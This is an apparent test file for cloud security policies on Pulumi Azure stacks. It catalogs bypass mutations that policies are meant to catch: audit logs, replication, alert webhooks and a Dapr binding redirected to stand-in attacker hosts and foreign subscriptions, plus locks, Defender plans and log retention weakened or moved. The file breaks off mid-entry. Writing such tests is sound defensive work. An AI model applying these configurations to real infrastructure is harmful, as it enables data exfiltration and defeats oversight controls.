/**
 * Bypass cases: protection that points elsewhere (issue 13, class 4), protected settings
 * overridden one level down or removed (class 5), and two false alarms (class 7: a port range
 * written 443-443, metrics-only diagnostic targets). An attacker with write access to the stack
 * keeps every lock, plan, alert, NSG, diagnostic setting and endpoint in place and only changes
 * where it points, or overrides a setting on a child resource.
 */
import type { Context, Mutation, Variation } from "../mutationCatalog";
import { computedElsewhere, DELETE, RANDOM_STRING, T } from "../mutationCatalog";
import { UNKNOWN_SENTINEL } from "../../../lib/analyzer/server";
import { createdOutputs } from "../../helpers/firstPreview";

const PROD: Mutation["stacks"] = ["prod"];
const VNET = "azure-native:network:VirtualNetwork";
/** A subscription the stacks never deploy into. */
const FOREIGN_SUB = "5e0f0000-0000-4000-8000-00000000beef";
const foreign = (path: string) =>
  `/subscriptions/${FOREIGN_SUB}/resourceGroups/rg-attacker/providers/${path}`;
/** The same resource group name of the other environment, in the same subscription. */
const otherEnv = (c: Context, path: string) =>
  `/subscriptions/${c.subscription}/resourceGroups/rg-sap-${c.stack === "prod" ? "dev" : "prod"}/providers/${path}`;
const own = (c: Context, path: string) =>
  `/subscriptions/${c.subscription}/resourceGroups/${c.resourceGroup}/providers/${path}`;

const uriHas = (fragment: string) => (i: Record<string, unknown>) =>
  typeof i.resourceUri === "string" && i.resourceUri.toLowerCase().includes(fragment.toLowerCase());
const scopeHas = (fragment: string) => (i: Record<string, unknown>) =>
  String(i.scope).toLowerCase().includes(fragment.toLowerCase());
const named = (suffix: string) => (_: Record<string, unknown>, urn: string) => urn.endsWith(`::${suffix}`);
const LOCK_SUFFIX = "/providers/Microsoft.Authorization/locks/do-not-delete";

/** A lock moved to `scope`: the input and the ID Azure would return for it. */
const lockAt = (scope: (c: Context) => string) => ({
  scope,
  id: (c: Context) => `${scope(c)}${LOCK_SUFFIX}`,
});

const tags = (c: Context, dataClassification = "internal") => ({
  environment: c.stack,
  owner: "platform-team",
  dataClassification,
});

export const MUTATIONS: Mutation[] = [
  // Diagnostic settings: an extra destination outside the stack (LOG-1, RES-1)
  ...(
    [
      [
        "a storage account in another subscription",
        "storageAccountId",
        () => foreign("Microsoft.Storage/storageAccounts/stexfil"),
      ],
      [
        "an event hub outside the stack",
        "eventHubAuthorizationRuleId",
        () => foreign("Microsoft.EventHub/namespaces/ehexfil/authorizationrules/RootManageSharedAccessKey"),
      ],
      [
        "the other environment's workspace",
        "workspaceId",
        (c: Context) => otherEnv(c, "Microsoft.OperationalInsights/workspaces/log-sap-platform"),
      ],
      ["a marketplace partner", "marketplacePartnerId", () => foreign("Microsoft.Datadog/monitors/dd")],
      [
        "a service bus outside the stack",
        "serviceBusRuleId",
        () => foreign("Microsoft.ServiceBus/namespaces/sb/authorizationrules/RootManageSharedAccessKey"),
      ],
    ] as const
  ).map(([what, key, value]): Mutation => ({
    id: `Key Vault audit logs also sent to ${what}`,
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/kvsapmain"),
    set: { [key]: value },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  })),
  {
    id: "blob audit logs also streamed to a foreign event hub",
    type: T.diag,
    where: uriHas("blobServices/default"),
    set: {
      eventHubAuthorizationRuleId: () =>
        foreign("Microsoft.EventHub/namespaces/ehexfil/authorizationrules/send"),
      eventHubName: "blobs",
    },
    policy: "diagnostic-destinations-in-stack",
    control: "RES-1",
  },
  {
    id: "PostgreSQL logs archived to a storage account of the other environment",
    type: T.diag,
    where: uriHas("flexibleServers"),
    set: { storageAccountId: (c: Context) => otherEnv(c, "Microsoft.Storage/storageAccounts/stsapdata") },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },

  // Private endpoints to or from outside the stack (NET-1)
  {
    id: "private endpoint to a foreign storage account (exfiltration path)",
    add: {
      type: T.pe,
      name: "pe-exfil",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        privateEndpointName: "pep-exfil",
        subnet: { id: `${c.idOf(VNET)}/subnets/snet-sap-pe-${c.stack}` },
        privateLinkServiceConnections: [
          {
            name: "exfil",
            groupIds: ["blob"],
            privateLinkServiceId: foreign("Microsoft.Storage/storageAccounts/stexfil"),
          },
        ],
        tags: tags(c),
      }),
    },
    policy: "private-endpoints-in-stack",
    control: "NET-1",
  },
  // bypass10: in a preview, a connection not known as a whole read as absent (no target at all).
  // A value not known yet that no resource computed is an output the program never set (azure-native's
  // PreviewOutputs), absent (policy/lib/relations.ts `notSetByProgram`): these are computed from a
  // random string, nothing a private endpoint, a DCR or a VNet may point at.
  {
    id: "private endpoint whose connection is computed at deploy time from a random string (preview)",
    add: {
      type: T.pe,
      name: "pe-computed",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        privateEndpointName: "pep-computed",
        subnet: { id: `${c.idOf(VNET)}/subnets/snet-sap-pe-${c.stack}` },
        privateLinkServiceConnections: [UNKNOWN_SENTINEL],
        tags: tags(c),
      }),
    },
    computedFrom: { privateLinkServiceConnections: RANDOM_STRING },
    policy: "private-endpoints-in-stack",
    control: "NET-1",
  },
  {
    id: "data collection rule whose workspace destination is computed at deploy time from a random string (preview)",
    add: {
      type: "azure-native:monitor:DataCollectionRule",
      name: "dcr-computed",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        dataCollectionRuleName: "dcr-computed",
        destinations: { logAnalytics: [UNKNOWN_SENTINEL] },
        tags: tags(c),
      }),
    },
    computedFrom: { destinations: RANDOM_STRING },
    policy: "log-export-in-stack",
    control: "RES-1",
  },
  // review14: a value the program sets, not known yet and computed from no resource, as an invoke
  // whose arguments are not known yet answers one (@pulumi/pulumi runtime/invoke.js) and as
  // `pulumi.unknown` is: no propertyDependencies, like an output the program never set. The
  // resource policies saw it among the inputs (policy/lib/define.ts `inputsNotKnownWhenAnalyzed`).
  {
    id: "Key Vault audit logs also sent to a storage account read through an invoke whose arguments are not known yet (preview)",
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/kvsapmain"),
    set: { storageAccountId: UNKNOWN_SENTINEL },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },
  {
    id: "private endpoint whose connection is read through an invoke whose arguments are not known yet (preview)",
    add: {
      type: T.pe,
      name: "pe-invoked",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        privateEndpointName: "pep-invoked",
        subnet: { id: `${c.idOf(VNET)}/subnets/snet-sap-pe-${c.stack}` },
        privateLinkServiceConnections: [UNKNOWN_SENTINEL],
        tags: tags(c),
      }),
    },
    policy: "private-endpoints-in-stack",
    control: "NET-1",
  },
  // preview15: a new resource's literal group is a path parameter its preview outputs do not
  // show, and it has no ID yet: it was judged only at `up`, once created in the other environment's
  // group. The resource policies saw the input (policy/lib/define.ts `resourceGroupWhenAnalyzed`).
  {
    id: "a network security group created in the other environment's resource group, named literally (preview)",
    add: {
      type: T.nsg,
      name: "nsg-elsewhere",
      inputs: (c) => ({
        resourceGroupName: `rg-sap-${c.stack === "prod" ? "dev" : "prod"}`,
        location: "westeurope",
        networkSecurityGroupName: "nsg-elsewhere",
        tags: tags(c),
      }),
      outputs: (_c, inputs) => createdOutputs(T.nsg, inputs, inputs),
    },
    policy: "own-resource-groups",
    control: "ENV-1",
  },
  {
    id: "a vault in a resource group computed at deploy time from nothing of the stack (preview)",
    add: {
      type: T.vault,
      name: "kv-elsewhere",
      inputs: (c) => ({
        resourceGroupName: UNKNOWN_SENTINEL,
        location: "westeurope",
        vaultName: "kv-elsewhere",
        properties: {
          tenantId: "00000000-0000-0000-0000-000000000000",
          sku: { family: "A", name: "standard" },
        },
        tags: tags(c),
      }),
    },
    policy: "own-resource-groups",
    control: "ENV-1",
  },
  {
    id: "the platform VNet resolves through a DNS server computed at deploy time from a random string (preview)",
    type: VNET,
    ...computedElsewhere("dhcpOptions", { "dhcpOptions.dnsServers": [UNKNOWN_SENTINEL] }),
    policy: "private-dns-in-stack",
    control: "NET-1",
  },
  {
    id: "private endpoint with a manual connection awaiting someone else's approval",
    type: T.pe,
    where: named("storage-pe"),
    set: {
      "push:manualPrivateLinkServiceConnections": {
        name: "manual",
        groupIds: ["blob"],
        privateLinkServiceId: foreign("Microsoft.Storage/storageAccounts/stother"),
        requestMessage: "please approve",
      },
    },
    policy: "private-endpoints-in-stack",
    control: "NET-1",
  },
  {
    id: "storage private endpoint placed in the other environment's subnet",
    type: T.pe,
    where: named("storage-pe"),
    set: {
      "subnet.id": (c: Context) =>
        otherEnv(c, "Microsoft.Network/virtualNetworks/vnet-sap-platform/subnets/snet-sap-pe"),
    },
    policy: "private-endpoints-in-stack",
    control: "NET-1",
  },

  // Grants made by this stack on what it does not own (ENV-1)
  {
    id: "workload data role moved to the other environment's storage account (same subscription)",
    type: T.role,
    where: (i) => i.principalType === "ServicePrincipal" && String(i.scope).includes("Microsoft.Storage"),
    set: {
      scope: (c: Context) =>
        otherEnv(
          c,
          `Microsoft.Storage/storageAccounts/${c.nameOf(T.account).replace(c.stack, c.stack === "prod" ? "dev" : "prod")}`,
        ),
    },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  {
    id: "a preset group's Reader role moved to the other environment's resource group",
    type: T.role,
    where: (i) => i.principalType === "Group",
    set: {
      scope: (c: Context) =>
        `/subscriptions/${c.subscription}/resourceGroups/rg-sap-${c.stack === "prod" ? "dev" : "prod"}`,
    },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  {
    id: "a preset group's roles widened to the whole subscription (both environments)",
    type: T.role,
    where: (i) => i.principalType === "Group",
    set: { scope: (c: Context) => `/subscriptions/${c.subscription}` },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  {
    id: "a second diagnostic setting copying the other environment's Key Vault audit log into this workspace",
    add: {
      type: T.diag,
      name: "copy-other-vault",
      inputs: (c) => ({
        name: "to-platform-workspace",
        resourceUri: otherEnv(
          c,
          `Microsoft.KeyVault/vaults/${c.nameOf(T.vault).replace(c.stack, c.stack === "prod" ? "dev" : "prod")}`,
        ),
        workspaceId: c.idOf(T.workspace),
        logAnalyticsDestinationType: "Dedicated",
        logs: [{ categoryGroup: "allLogs", enabled: true }],
        metrics: [{ category: "AllMetrics", enabled: true }],
      }),
    },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  // Preview (bypass11b): a target not known yet was vouched for by any dependency of the resource;
  // at `up` the stack policy sees the real target only after the grant or export exists.
  {
    id: "a workload role whose scope, not known yet, is computed from a random string (dependsOn kept)",
    type: T.role,
    where: (i) => i.principalType === "ServicePrincipal" && String(i.scope).includes("Microsoft.Storage"),
    set: { scope: UNKNOWN_SENTINEL },
    computedFrom: { scope: RANDOM_STRING },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  {
    id: "a diagnostic setting whose target, not known yet, is computed from a random string (dependsOn kept)",
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/"),
    set: { resourceUri: UNKNOWN_SENTINEL },
    computedFrom: { resourceUri: RANDOM_STRING },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  {
    id: "a workload role scoped to a foreign resource written with a trailing slash and other case",
    type: T.role,
    where: (i) => i.principalType === "ServicePrincipal" && String(i.scope).includes("Microsoft.Storage"),
    set: { scope: () => foreign("MICROSOFT.STORAGE/storageAccounts/stexfil/") },
    policy: "extension-targets-in-stack",
    control: "ENV-1",
  },
  // The owner's side of a foreign endpoint: an approval resource on the data store (NET-1).
  ...(
    [
      ["storage account", "azure-native:storage:PrivateEndpointConnection", "accountName", T.account],
      ["Key Vault", "azure-native:keyvault:PrivateEndpointConnection", "vaultName", T.vault],
      ["PostgreSQL server", "azure-native:dbforpostgresql:PrivateEndpointConnection", "serverName", T.pg],
      ["Managed Redis", "azure-native:cache:EnterprisePrivateEndpointConnection", "clusterName", T.redis],
    ] as const
  ).map(([what, type, parent, target]): Mutation => ({
    id: `a foreign private endpoint approved on the ${what} by a connection resource`,
    add: {
      type,
      name: `approve-${parent}`,
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        [parent]: c.nameOf(target),
        privateEndpointConnectionName: "pep-partner.0f3c",
        privateLinkServiceConnectionState: { status: "Approved", description: "partner access" },
      }),
    },
    policy: "data-store-no-connection-approval",
    control: "NET-1",
  })),
  {
    id: "a foreign privatelink zone linked to our VNet (DNS hijack of the data stores)",
    add: {
      type: "azure-native:privatedns:VirtualNetworkLink",
      name: "link-hijack",
      inputs: (c) => ({
        resourceGroupName: "rg-attacker",
        privateZoneName: "privatelink.blob.core.windows.net",
        virtualNetworkLinkName: "hijack",
        location: "global",
        registrationEnabled: false,
        virtualNetwork: { id: c.idOf(VNET) },
        tags: tags(c),
      }),
    },
    policy: "private-dns-in-stack",
    control: "NET-1",
  },
  {
    id: "Key Vault endpoint registered in another environment's private DNS zone",
    type: "azure-native:network:PrivateDnsZoneGroup",
    where: named("keyvault-pe-dns"),
    set: {
      "privateDnsZoneConfigs.0.privateDnsZoneId": (c: Context) =>
        otherEnv(c, "Microsoft.Network/privateDnsZones/privatelink.vaultcore.azure.net"),
    },
    policy: "private-dns-in-stack",
    control: "NET-1",
  },
  {
    id: "PostgreSQL VNet-integrated into the other environment's subnet",
    type: T.pg,
    set: {
      "network.delegatedSubnetResourceId": (c: Context) =>
        otherEnv(c, "Microsoft.Network/virtualNetworks/vnet-sap-platform/subnets/snet-sap-pg"),
    },
    policy: "data-store-private-connectivity",
    control: "NET-1",
  },

  // Locks that exist but do not cover the resource (BAK-2), prod only
  {
    id: "storage lock moved to the same path in another subscription",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("storageAccounts"),
    set: lockAt((c) => c.idOf(T.account).replace(c.subscription, FOREIGN_SUB)),
    policy: "stateful-resources-locked",
    control: "BAK-2",
  },
  {
    id: "PostgreSQL lock moved to the other environment's resource group",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("flexibleServers"),
    set: lockAt((c) => `/subscriptions/${c.subscription}/resourceGroups/rg-sap-dev`),
    policy: "stateful-resources-locked",
    control: "BAK-2",
  },
  {
    id: "storage lock on the blob service instead of the account",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("storageAccounts"),
    set: lockAt((c) => `${c.idOf(T.account)}/blobServices/default`),
    policy: "stateful-resources-locked",
    control: "BAK-2",
  },
  {
    id: "Key Vault lock created through a provider for another subscription",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("kvsapmain"),
    set: { id: (c: Context) => c.idOf(T.vault).replace(c.subscription, FOREIGN_SUB) + LOCK_SUFFIX },
    policy: "stateful-resources-locked",
    control: "BAK-2",
  },
  // unknown11: the store, the resource watched, or the workspace written to, not known yet
  // (preview), was vouched for by any dependency of the endpoint, alert or setting.
  {
    id: "storage private endpoint whose service is computed at deploy time from something else (preview, dependsOn kept)",
    type: T.pe,
    where: (i) => JSON.stringify(i.privateLinkServiceConnections).includes("storageAccounts"),
    ...computedElsewhere("privateLinkServiceConnections", {
      "privateLinkServiceConnections.0.privateLinkServiceId": UNKNOWN_SENTINEL,
    }),
    policy: "data-store-private-connectivity",
    control: "NET-1",
  },
  {
    id: "storage availability alert scoped to a resource computed at deploy time from something else (preview, dependsOn kept)",
    type: T.alert,
    where: (i) => JSON.stringify(i.scopes).includes("storageAccounts"),
    ...computedElsewhere("scopes", { scopes: [UNKNOWN_SENTINEL] }),
    policy: "critical-resources-alerted",
    control: "MON-1",
  },
  {
    id: "Key Vault diagnostic setting on a resource computed at deploy time from something else (preview, dependsOn kept)",
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/kvsapmain"),
    ...computedElsewhere("resourceUri"),
    policy: "diagnostics-coverage",
    control: "LOG-1",
  },
  {
    id: "Key Vault diagnostic setting writing to a workspace computed at deploy time from something else (preview, dependsOn kept)",
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/kvsapmain"),
    ...computedElsewhere("workspaceId"),
    policy: "diagnostics-coverage",
    control: "LOG-1",
  },
  // unknown11: a lock whose scope is not known yet (preview) covered whatever it depended on.
  {
    id: "storage lock on a scope computed at deploy time from something else (preview, dependsOn kept)",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("storageAccounts"),
    ...computedElsewhere("scope", { scope: UNKNOWN_SENTINEL, id: UNKNOWN_SENTINEL }),
    policy: "stateful-resources-locked",
    control: "BAK-2",
  },
  ...(
    [
      ["a blob container", T.container],
      ["the PostgreSQL database", "azure-native:dbforpostgresql:Database"],
      ["the Redis database", T.redisDb],
    ] as const
  ).map(([what, type]): Mutation => ({
    id: `${what} not protected (deleted with the stack although its store is locked)`,
    stacks: PROD,
    type,
    unprotect: true,
    policy: "stateful-resources-locked",
    control: "BAK-2",
  })),

  // Defender plans on another subscription (THR-1), prod only
  {
    id: "Defender for Storage enabled on another subscription",
    stacks: PROD,
    type: T.pricing,
    where: (i) => i.pricingName === "StorageAccounts",
    set: {
      scopeId: `/subscriptions/${FOREIGN_SUB}`,
      id: `/subscriptions/${FOREIGN_SUB}/providers/Microsoft.Security/pricings/StorageAccounts`,
    },
    policy: "defender-plans-cover-services",
    control: "THR-1",
  },
  {
    id: "Defender for Key Vaults enabled on one unrelated resource only",
    stacks: PROD,
    type: T.pricing,
    where: (i) => i.pricingName === "KeyVaults",
    set: {
      scopeId: (c: Context) => own(c, "Microsoft.KeyVault/vaults/kvunused"),
      id: (c: Context) =>
        own(c, "Microsoft.KeyVault/vaults/kvunused/providers/Microsoft.Security/pricings/KeyVaults"),
    },
    policy: "defender-plans-cover-services",
    control: "THR-1",
  },

  // Alerts routed to another environment's or a foreign action group (MON-1, ENV-1)
  {
    id: "Key Vault alerts routed to the other environment's action group",
    type: T.alert,
    where: (i) => JSON.stringify(i.scopes).includes("kvsapmain"),
    set: {
      "actions.0.actionGroupId": (c: Context) =>
        otherEnv(c, "Microsoft.Insights/actionGroups/ag-sap-platform"),
    },
    policy: "alert-routes-in-stack",
    control: "MON-1",
  },
  {
    id: "PostgreSQL alerts routed only to a foreign action group",
    type: T.alert,
    where: (i) => JSON.stringify(i.scopes).includes("flexibleServers"),
    set: { "actions.0.actionGroupId": foreign("Microsoft.Insights/actionGroups/ag-attacker") },
    policy: "critical-resources-alerted",
    control: "MON-1",
  },

  {
    id: "action group also triggers a logic app in another subscription",
    type: T.actionGroup,
    set: {
      logicAppReceivers: [
        {
          name: "forward",
          resourceId: foreign("Microsoft.Logic/workflows/forward-alerts"),
          callbackUrl: "https://prod-00.westeurope.logic.azure.com/workflows/x/triggers/manual/paths/invoke",
          useCommonAlertSchema: true,
        },
      ],
    },
    policy: "alert-routes-in-stack",
    control: "MON-1",
  },

  {
    id: "action group also posts every alert to a webhook outside the stack",
    type: T.actionGroup,
    set: {
      webhookReceivers: [
        { name: "forward", serviceUri: "https://collector.example.net/alerts", useCommonAlertSchema: true },
      ],
    },
    policy: "alert-routes-in-stack",
    control: "MON-1",
  },

  // Action group receivers that are people: every alert's contents to an address, number or role
  // nobody reviewed (MON-1)
  ...(
    [
      [
        "e-mails every alert to an outside mailbox too",
        { "push:emailReceivers": { name: "copy", emailAddress: "alerts-copy@attacker.example" } },
      ],
      [
        "sends every alert by SMS to an unreviewed number",
        { smsReceivers: [{ name: "sms", countryCode: "1", phoneNumber: "5550100" }] },
      ],
      [
        "calls an unreviewed number for every alert",
        { voiceReceivers: [{ name: "call", countryCode: "44", phoneNumber: "2071234567" }] },
      ],
      [
        "pushes every alert to a personal Azure app account",
        { azureAppPushReceivers: [{ name: "push", emailAddress: "someone@outlook.com" }] },
      ],
      [
        "e-mails everyone with Reader on the subscription",
        { armRoleReceivers: [{ name: "readers", roleId: "acdd72a7-3385-48ef-bd42-f606fba81ae7" }] },
      ],
    ] as const
  ).map(([what, set]): Mutation => ({
    id: `action group ${what}`,
    type: T.actionGroup,
    set,
    policy: "alert-routes-in-stack",
    control: "MON-1",
  })),

  // Container Apps environment storage: apps write to whatever share the environment mounts (ENV-1)
  ...(
    [
      [
        "an Azure Files share of a foreign account",
        { azureFile: { accountName: "stattackerdrop", shareName: "drop", accessMode: "ReadWrite" } },
      ],
      [
        "an NFS share of a foreign account",
        {
          nfsAzureFile: {
            server: "stattackerdrop.file.core.windows.net",
            shareName: "/stattackerdrop/drop",
            accessMode: "ReadWrite",
          },
        },
      ],
    ] as const
  ).map(([what, properties]): Mutation => ({
    id: `environment mounts ${what}`,
    add: {
      type: "azure-native:app:ManagedEnvironmentsStorage",
      name: "drop",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        storageName: "drop",
        properties,
      }),
    },
    policy: "container-apps-run-in-stack",
    control: "ENV-1",
  })),

  {
    id: "PostgreSQL registers its name in a private DNS zone of another subscription",
    type: T.pg,
    set: {
      "network.privateDnsZoneArmResourceId": foreign(
        "Microsoft.Network/privateDnsZones/sap.private.postgres.database.azure.com",
      ),
    },
    policy: "private-dns-in-stack",
    control: "NET-1",
  },

  {
    id: "a Dapr output binding posts what the apps send to an outside URL",
    add: {
      type: "azure-native:app:DaprComponent",
      name: "events-out",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        componentName: "events",
        componentType: "bindings.http",
        version: "v1",
        metadata: [{ name: "url", value: "https://collector.attacker.example/events" }],
        scopes: ["api"],
      }),
    },
    policy: "dapr-components-reviewed",
    control: "ENV-1",
  },

  // Subnets and peering (NET-1, ENV-1)
  {
    id: "apps subnet uses an NSG outside the stack",
    type: T.subnet,
    where: named("network-apps-subnet"),
    set: { "networkSecurityGroup.id": foreign("Microsoft.Network/networkSecurityGroups/nsg-allow-all") },
    policy: "subnet-nsg-in-stack",
    control: "NET-1",
  },
  {
    id: "apps subnet routes through the other environment's route table",
    type: T.subnet,
    where: named("network-apps-subnet"),
    set: {
      "routeTable.id": (c: Context) => otherEnv(c, "Microsoft.Network/routeTables/rt-sap-egress"),
    },
    policy: "subnet-nsg-in-stack",
    control: "NET-1",
  },
  {
    id: "private-endpoint subnet uses the other environment's NSG",
    type: T.subnet,
    where: named("network-pe-subnet"),
    set: {
      "networkSecurityGroup.id": (c: Context) =>
        otherEnv(c, "Microsoft.Network/networkSecurityGroups/nsg-sap-pe"),
    },
    policy: "subnet-nsg-in-stack",
    control: "NET-1",
  },
  {
    id: "VNet peered with the other environment's VNet",
    add: {
      type: "azure-native:network:VirtualNetworkPeering",
      name: "peer-other-env",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        virtualNetworkName: c.nameOf(VNET),
        virtualNetworkPeeringName: "to-other-env",
        remoteVirtualNetwork: { id: otherEnv(c, "Microsoft.Network/virtualNetworks/vnet-sap-platform") },
        allowVirtualNetworkAccess: true,
      }),
    },
    policy: "vnet-peering-in-stack",
    control: "ENV-1",
  },
  {
    id: "VNet peered with a reviewed-looking hub, forwarding traffic through its gateway",
    add: {
      type: "azure-native:network:VirtualNetworkPeering",
      name: "peer-hub-transit",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        virtualNetworkName: c.nameOf(VNET),
        virtualNetworkPeeringName: "to-hub",
        remoteVirtualNetwork: { id: c.idOf(VNET) },
        allowForwardedTraffic: true,
        useRemoteGateways: true,
      }),
    },
    policy: "vnet-peering-in-stack",
    control: "NET-1",
  },
  {
    id: "VNet with an inline peering to a foreign network",
    type: VNET,
    set: {
      virtualNetworkPeerings: [
        {
          name: "to-attacker",
          remoteVirtualNetwork: { id: foreign("Microsoft.Network/virtualNetworks/vnet") },
        },
      ],
    },
    policy: "vnet-peering-in-stack",
    control: "NET-1",
  },

  // Replication and export of data out of the stack (RES-1, ENV-1)
  {
    id: "object replication of the customer data account to a foreign account",
    add: {
      type: "azure-native:storage:ObjectReplicationPolicy",
      name: "orp-out",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: c.nameOf(T.account),
        objectReplicationPolicyId: "default",
        sourceAccount: c.idOf(T.account),
        destinationAccount: foreign("Microsoft.Storage/storageAccounts/stexfil"),
        rules: [{ sourceContainer: "recordings", destinationContainer: "copy" }],
      }),
    },
    policy: "storage-object-replication-in-stack",
    control: "RES-1",
  },
  {
    id: "object replication from the other environment's account into this one",
    add: {
      type: "azure-native:storage:ObjectReplicationPolicy",
      name: "orp-in",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: c.nameOf(T.account),
        objectReplicationPolicyId: "default",
        sourceAccount: otherEnv(c, "Microsoft.Storage/storageAccounts/stsapdata"),
        destinationAccount: c.idOf(T.account),
        rules: [{ sourceContainer: "recordings", destinationContainer: "recordings" }],
      }),
    },
    policy: "storage-object-replication-in-stack",
    control: "ENV-1",
  },
  {
    id: "object replication to a bare account name the stack does not own",
    add: {
      type: "azure-native:storage:ObjectReplicationPolicy",
      name: "orp-name",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: c.nameOf(T.account),
        sourceAccount: c.nameOf(T.account),
        destinationAccount: "stexfil",
      }),
    },
    policy: "storage-object-replication-in-stack",
    control: "RES-1",
  },
  {
    id: "Log Analytics data export to a foreign event hub",
    add: {
      type: "azure-native:operationalinsights:DataExport",
      name: "export-out",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        dataExportName: "all",
        resourceId: foreign("Microsoft.EventHub/namespaces/ehexfil"),
        tableNames: ["AzureDiagnostics", "StorageBlobLogs"],
        enable: true,
      }),
    },
    policy: "log-export-in-stack",
    control: "RES-1",
  },
  {
    id: "Log Analytics linked to a storage account of the other environment",
    add: {
      type: "azure-native:operationalinsights:LinkedStorageAccount",
      name: "linked-other",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        dataSourceType: "Query",
        storageAccountIds: [otherEnv(c, "Microsoft.Storage/storageAccounts/stsapdata")],
      }),
    },
    policy: "log-export-in-stack",
    control: "LOG-1",
  },
  {
    id: "workspace moved onto a dedicated cluster in another subscription",
    type: T.workspace,
    set: { "features.clusterResourceId": foreign("Microsoft.OperationalInsights/clusters/la-cluster") },
    policy: "log-export-in-stack",
    control: "RES-1",
  },
  {
    id: "data collection rule copying logs to a foreign workspace",
    add: {
      type: "azure-native:insights:DataCollectionRule",
      name: "dcr-out",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        dataCollectionRuleName: "dcr-out",
        destinations: {
          logAnalytics: [
            { name: "own", workspaceResourceId: c.idOf(T.workspace) },
            {
              name: "copy",
              workspaceResourceId: foreign("Microsoft.OperationalInsights/workspaces/la-copy"),
            },
          ],
        },
        tags: tags(c),
      }),
    },
    policy: "log-export-in-stack",
    control: "RES-1",
  },
  {
    id: "Redis database geo-replicated with a foreign database",
    type: T.redisDb,
    set: {
      geoReplication: (c: Context) => ({
        groupNickname: "g",
        linkedDatabases: [
          { id: `${c.idOf(T.redis)}/databases/default` },
          { id: foreign("Microsoft.Cache/redisEnterprise/amr-exfil/databases/default") },
        ],
      }),
    },
    policy: "redis-geo-replication-in-stack",
    control: "RES-1",
  },
  {
    id: "legacy Redis linked server replicating to a foreign cache in the US",
    add: {
      type: "azure-native:redis:LinkedServer",
      name: "linked-us",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        name: "redis-legacy",
        linkedServerName: "redis-us",
        linkedRedisCacheId: foreign("Microsoft.Cache/redis/redis-us"),
        linkedRedisCacheLocation: "eastus",
        serverRole: "Secondary",
      }),
    },
    policy: "redis-geo-replication-in-stack",
    control: "RES-1",
  },
  {
    id: "PostgreSQL restored from the other environment's server (prod data in dev, or the reverse)",
    add: {
      type: T.pg,
      name: "pg-restore",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        serverName: "psql-restore",
        createMode: "PointInTimeRestore",
        sourceServerResourceId: otherEnv(c, "Microsoft.DBforPostgreSQL/flexibleServers/psql-sap-main"),
        pointInTimeUTC: "2026-11-30T00:00:00Z",
        tags: tags(c, "customer-confidential"),
      }),
    },
    policy: "postgres-source-in-stack",
    control: "ENV-1",
  },

  // Protected settings overridden one level down or removed (class 5)
  {
    id: "blob service properties deleted (soft delete, versioning, PITR and blob audit logs go with it)",
    type: T.blob,
    remove: true,
    policy: "storage-blob-service-required",
    control: "BAK-1",
  },
  {
    id: "a Log Analytics table kept 30 days",
    add: {
      type: "azure-native:operationalinsights:Table",
      name: "table-short",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        tableName: "AzureDiagnostics",
        retentionInDays: 30,
      }),
    },
    policy: "log-analytics-table-retention",
    control: "LOG-1",
  },
  {
    id: "a Log Analytics table with total retention cut to 90 days",
    add: {
      type: "azure-native:operationalinsights:Table",
      name: "table-total",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        tableName: "StorageBlobLogs",
        retentionInDays: 30,
        totalRetentionInDays: 90,
      }),
    },
    policy: "log-analytics-table-retention",
    control: "LOG-1",
  },
  {
    id: "workspace purges data after 30 days",
    type: T.workspace,
    set: { "features.immediatePurgeDataOn30Days": true },
    policy: "log-analytics-no-data-loss",
    control: "LOG-1",
  },
  {
    id: "workspace daily ingestion cap of 1 GB",
    type: T.workspace,
    set: { "workspaceCapping.dailyQuotaGb": 1 },
    policy: "log-analytics-no-data-loss",
    control: "LOG-1",
  },
  {
    id: "workspace on the Free tier",
    type: T.workspace,
    set: { "sku.name": "Free" },
    policy: "log-analytics-no-data-loss",
    control: "LOG-1",
  },
  {
    id: "queues encrypted with a Microsoft-managed key",
    stacks: PROD,
    type: T.account,
    set: { "encryption.services.queue.keyType": "Service" },
    policy: "storage-account-customer-managed-key",
